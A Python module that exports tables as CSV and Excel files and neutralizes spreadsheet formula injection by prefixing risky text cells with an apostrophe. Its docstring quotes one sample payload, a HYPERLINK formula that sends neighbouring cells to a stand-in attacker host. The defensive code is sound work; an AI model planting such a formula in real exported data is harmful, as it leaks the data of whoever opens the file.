"""CSV files meant to be opened in a spreadsheet: UTF-8 with a byte-order mark, and no formulas.

Cells come from people (a participant's name, a recommendation's text). A spreadsheet
application runs a cell beginning with ``=``, ``+``, ``-`` or ``@`` as a formula, and
one beginning with a tab or a carriage return after trimming it, so a name such as
``=HYPERLINK("http://evil.example/?x="&A2,"Cliquez")`` would send the neighbouring
cells away when an organizer clicks. As the OWASP guidance on CSV injection asks, such
a text cell is written with a leading apostrophe, which spreadsheet applications read
as "this is text" and do not display. Numbers, booleans and dates are ours, not
input, and are written as they are so they stay numbers.
"""

import csv
import io
from collections.abc import Iterable
from datetime import date, datetime
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralize(text: str) -> str:
    """A text cell that a spreadsheet application will show as text, never run."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    return neutralize(str(value))


def csv_bytes(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """The file: without the byte-order mark Excel reads it as a legacy code page and mangles Arabic."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow([cell(value) for value in row])
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_bytes(header: Iterable[str], rows: Iterable[Iterable[Any]], *, title: str = "export") -> bytes:
    """The same table as an Excel workbook; text cells are neutralized like the CSV's and typed as
    text, so that a cell beginning with ``=`` is never stored as a formula."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title[:31])
    sheet.append(list(header))
    for row in rows:
        sheet.append([_xlsx_cell(sheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _xlsx_cell(sheet: Any, value: Any) -> Any:
    if value is None or isinstance(value, bool | int | float):
        return value
    if isinstance(value, datetime):
        return value.replace(tzinfo=None) if value.tzinfo else value  # stored in UTC; Excel has no zones
    if isinstance(value, date):
        return value
    # Control characters make the whole workbook unreadable; a text stored before they were refused
    # on input loses them here rather than the export failing.
    written = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", neutralize(str(value))))
    written.data_type = "s"
    return written
